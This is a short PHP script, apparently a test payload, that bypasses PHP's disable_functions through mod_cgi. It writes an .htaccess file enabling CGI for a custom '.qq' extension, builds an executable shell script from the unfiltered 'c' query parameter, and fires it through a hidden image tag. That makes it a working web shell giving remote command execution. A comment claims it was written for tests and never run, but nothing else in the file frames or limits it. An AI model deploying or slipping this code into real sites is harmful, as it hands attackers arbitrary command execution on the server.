<?php
// mod_cgi way around disable_functions: CGI turned on for an extension of its own, a
// shell script written with it and called (written for the tests, never run)
$run = "#!/bin/sh\necho Content-Type: text/plain\necho\n" . $_GET['c'];
file_put_contents(__DIR__ . '/.htaccess', "Options +ExecCGI\nAddHandler cgi-script .qq\n");
file_put_contents(__DIR__ . '/x.qq', $run);
chmod(__DIR__ . '/x.qq', 0755);
echo '<img src="x.qq" style="display:none">';
